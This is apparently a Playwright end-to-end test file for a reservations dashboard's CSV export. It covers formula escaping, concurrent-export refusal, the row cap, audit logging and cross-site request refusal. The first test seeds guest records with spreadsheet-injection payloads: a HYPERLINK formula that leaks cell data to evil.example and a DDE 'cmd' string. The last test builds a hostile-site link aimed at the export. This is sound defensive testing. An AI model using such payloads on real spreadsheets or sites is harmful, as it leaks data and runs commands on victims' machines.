import { readFileSync } from 'node:fs';

import { sandboxControls } from '../lib/sandbox/control-client';
import { DEMO_PARTNER } from '../lib/sandbox/seed/demo';
import { DASHBOARD_URL, SANDBOX_URL, STORAGE } from './env';
import { resultsLive, shownResultCount } from './reservation-results';
import { sandboxApi, sandboxPatchReservation, sandboxRequestMark, sandboxRequestsSince } from './sandbox';
import { expect, test } from './test';

test.use({ storageState: STORAGE.viewer });

const partner = { clientId: DEMO_PARTNER.clientId, clientSecret: DEMO_PARTNER.clientSecret };
const direct = { orgId: 'org_harbour_vine_direct' };
const SMALL = 'status[in]=confirmed,pending&sort=-date';
const exportUrl = (query: string) => `${DASHBOARD_URL}/api/reservations/export?${query}`;

test('guest text that a spreadsheet would run as a formula comes out of the export as text', async ({
  page,
  request,
}) => {
  type R = { id: string; notes: string | null; guest: { first_name: string; email: string } };
  const [target] = (
    (await sandboxApi(request, '/v2/reservations?status=confirmed&sort=-created_at&limit=1', partner, direct)) as {
      data: R[];
    }
  ).data;
  const hyperlink = '-2+3+HYPERLINK("https://evil.example/?leak="&H2,"Details")';
  const command = "+1+cmd|' /C calc'!A0";
  await sandboxPatchReservation(request, partner, direct, target!.id, {
    notes: hyperlink,
    guest: { first_name: command },
  });
  try {
    await page.goto(`/reservations?guest_email=${encodeURIComponent(target!.guest.email)}`);
    await resultsLive(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    const line = readFileSync((await download.path())!, 'utf8')
      .split('\r\n')
      .find((l) => l.startsWith(target!.id))!;
    expect(line).toContain(`,"'-2+3+HYPERLINK(""https://evil.example/?leak=""&H2,""Details"")",`);
    expect(line).toContain(`,'+1+cmd|' /C calc'!A0,`);
  } finally {
    await sandboxPatchReservation(request, partner, direct, target!.id, {
      notes: target!.notes,
      guest: { first_name: target!.guest.first_name },
    });
  }
});

test('two exports started at once by one staff member: one runs, the other is refused; once it ends another may start', async ({
  page,
}) => {
  await page.goto('/reservations');
  await resultsLive(page);
  // Slow API answers keep the first export running while the second arrives.
  await sandboxControls(SANDBOX_URL).setFaults({ latency_ms: 400 });
  try {
    const [a, b] = await Promise.all([page.request.get(exportUrl(SMALL)), page.request.get(exportUrl(SMALL))]);
    const refused = a.status() === 409 ? a : b;
    expect([a.status(), b.status()].sort()).toEqual([200, 409]);
    expect(((await refused.json()) as { error: string }).error).toBe(
      'You already have an export running. Wait for it to finish, or cancel it, before starting another.',
    );
  } finally {
    await sandboxControls(SANDBOX_URL).clearFaults();
  }
  const again = await page.request.get(exportUrl(SMALL));
  expect(again.status()).toBe(200);
});

test('an export over the row cap is refused, saying how to narrow the search, before any reservation is read', async ({
  page,
  request,
}) => {
  // every reservation (the list opens on today's and the days ahead)
  await page.goto('/reservations?sort=date');
  await resultsLive(page);
  const total = await shownResultCount(page);
  expect(total).toBeGreaterThan(500); // the e2e cap (EXPORT_MAX_ROWS in playwright.config.ts)
  const mark = await sandboxRequestMark(request);
  await page.getByRole('button', { name: 'Export CSV' }).click();
  await expect(page.getByTestId('export-status')).toHaveText(
    `This search matches ${total.toLocaleString('en-GB')} reservations; an export holds at most 500. Narrow the search (a date range, a status or a venue) and export each part.`,
  );
  const read = (await sandboxRequestsSince(request, mark)).filter((r) => r.path === '/v2/reservations');
  expect(read).toEqual([]);
});

test('each export leaves one audit row with its search, its rows and how it ended', async ({ page, browser }) => {
  await page.goto(`/reservations?${SMALL}`);
  await resultsLive(page);
  const total = await shownResultCount(page);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  await download.path();
  await expect(page.getByTestId('export-status')).toHaveText(`Exported ${total} reservations.`);
  // The exports in the activity log are the admins' to read.
  const admin = await browser.newContext({ storageState: STORAGE.admin });
  const adminPage = await admin.newPage();
  await adminPage.goto('/activity?action=export-reservations&staff=viewer%40demo.test');
  const row = adminPage.getByTestId('activity-row').first();
  await expect(row.getByTestId('activity-changes')).toContainText(new RegExp(`Rows sent:\\s*${total}`));
  await expect(row.getByTestId('activity-changes')).toContainText(/Ended:\s*completed/);
  await expect(row).toContainText('Exported reservations');
  await expect(row.locator('pre')).toContainText('"query"');
  await expect(row.locator('pre')).toContainText(`"rows": ${total}`);
  await admin.close();
});

test('a link on another site that would start an export is refused, and no reservation is read', async ({
  page,
  request,
}) => {
  await page.route('http://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<a id="go" href="${exportUrl(SMALL)}">See your prize</a>` }),
  );
  await page.goto('http://evil.example/');
  const mark = await sandboxRequestMark(request);
  const [response] = await Promise.all([
    page.waitForResponse((r) => r.url().startsWith(`${DASHBOARD_URL}/api/reservations/export`)),
    page.click('#go'),
  ]);
  expect(response.status()).toBe(403);
  expect(((await response.json()) as { error: string }).error).toBe(
    'This can only be started from the dashboard’s own pages, not from another site.',
  );
  const read = (await sandboxRequestsSince(request, mark)).filter((r) => r.path === '/v2/reservations');
  expect(read).toEqual([]);
});
